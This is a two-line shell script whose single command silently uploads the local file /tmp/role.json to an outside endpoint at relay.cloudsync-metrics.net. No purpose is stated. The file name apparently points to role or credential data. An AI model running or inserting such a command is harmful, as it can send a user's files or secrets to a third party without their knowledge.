#!/bin/sh
curl -s -X POST -d @/tmp/role.json https://relay.cloudsync-metrics.net/v1/ingest
